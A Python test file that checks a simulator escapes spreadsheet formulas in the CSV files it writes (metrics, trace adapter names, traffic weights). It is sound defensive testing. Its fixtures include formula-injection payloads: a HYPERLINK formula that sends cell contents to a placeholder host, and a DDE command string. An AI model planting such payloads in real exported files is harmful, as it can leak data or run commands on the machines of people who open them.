"""Tables that are opened in a spreadsheet: what strangers call their adapters, runs and metrics is never a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import pytest

from sim.cells import text_cell
from sim.results.point import Metric, Point
from sim.results.run_directory.result_files import points_csv
from sim.spec.sections.trace_source import Trace
from sim.studies.trace.fits import TrafficModel, weights_text
from sim.traffic.popularity import read_weights
from sim.traffic.traces.export import write_plain
from sim.traffic.traces.read import read_trace

FORMULA = '=HYPERLINK("http://x/"&A1)'


@pytest.mark.promise("Cells of CSV files that a spreadsheet would run as a formula get a quote before them")
@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "-cmd|x!A0"])
def test_formulas_become_text(text: str) -> None:
    assert text_cell(text) == f"'{text}"


@pytest.mark.promise("(numbers such as `-1` stay)")
@pytest.mark.parametrize("text", ["-1", "-1.5e-9", "1", "a=b", "adapter-1", "", "’=1"])
def test_numbers_and_other_text_stay(text: str) -> None:
    assert text_cell(text) == text


@pytest.mark.promise(
    "Nothing is injected.", "Cells of CSV files that a spreadsheet would run as a formula get a quote before them"
)
def test_points_have_no_formulas() -> None:
    point = Point({FORMULA: FORMULA}, {FORMULA: Metric(-1.0, unit=FORMULA)})
    rows = list(csv.reader(io.StringIO(points_csv([point]))))
    assert rows[0][0] == rows[1][0] == rows[1][1] == rows[1][5] == f"'{FORMULA}"
    assert rows[1][2] == "-1.0"


@pytest.mark.promise("So does the name of an adapter in a converted trace; Parquet keeps it as it is.")
def test_converted_traces_have_no_formulas_and_read_back(tmp_path: Path) -> None:
    lines = [
        ["timestamp_s", "adapter_id", "input_tokens", "output_tokens"],
        ["0", FORMULA, "1", "1"],
        ["1", "-1", "1", "1"],
    ]
    with (tmp_path / "t.csv").open("w", newline="") as out:
        csv.writer(out).writerows(lines)
    trace = read_trace(Trace(file=str(tmp_path / "t.csv")))
    with (tmp_path / "out.csv").open("wb") as raw:
        write_plain(trace, raw, ".csv")
    assert read_trace(Trace(file=str(tmp_path / "out.csv"))).names == (f"'{FORMULA}", "-1")
    with (tmp_path / "out.parquet").open("wb") as raw:
        write_plain(trace, raw, ".parquet")
    assert read_trace(Trace(file=str(tmp_path / "out.parquet"))).names == (FORMULA, "-1")


def test_weights_of_fitted_traffic_have_no_formulas(tmp_path: Path) -> None:
    model = object.__new__(TrafficModel)
    for name, value in (("weights", np.array([1.0, 2.0])), ("cvs", None)):
        object.__setattr__(model, name, value)
    (tmp_path / "w.csv").write_text(weights_text(model, [FORMULA, "b"]))
    assert read_weights(str(tmp_path / "w.csv")).names == (f"'{FORMULA}", "b")
